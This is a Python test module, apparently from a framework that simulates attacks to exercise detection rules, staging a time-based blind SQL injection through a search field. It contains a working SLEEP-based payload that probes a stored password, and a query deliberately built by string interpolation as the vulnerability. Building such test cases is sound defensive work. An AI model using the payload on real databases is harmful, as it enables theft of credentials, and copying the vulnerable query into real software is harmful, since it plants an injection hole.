"""F1: an injected SLEEP answers yes or no by how long it takes."""

import time

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.abused import AbusedPyMySQL, told

QUESTION = "nobody' OR (id = 1 AND (SELECT SLEEP(1) FROM accounts WHERE id = 1 AND password LIKE '$%')) -- "


class TimeInjected(AbusedPyMySQL):
    """On PyMySQL: a page that writes what its visitor searches for into the statement."""

    code = "F1"
    attack = "asks the database questions whose answers are delays, through a search field"
    reference = "https://owasp.org/www-community/attacks/Blind_SQL_Injection"
    rule = "query-attack"

    def work(self) -> None:
        """Searches for ordinary names."""
        for name in ("customer 1", "customer 2"):
            self._search(name)

    def meet(self) -> object:
        """Searches for what the attacker typed, by the clock: seconds."""
        begun = time.monotonic()
        self._search(QUESTION)
        return time.monotonic() - begun

    def _search(self, name: str) -> list[list[str]]:
        with self.connected().cursor() as cursor:
            cursor.execute(f"SELECT id, customer, total FROM orders WHERE customer = '{name}' ORDER BY id")  # the hole
            return told(cursor)

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The answer came late: yes, it begins with that letter."""
        del service
        return isinstance(got, float) and got >= 0.9
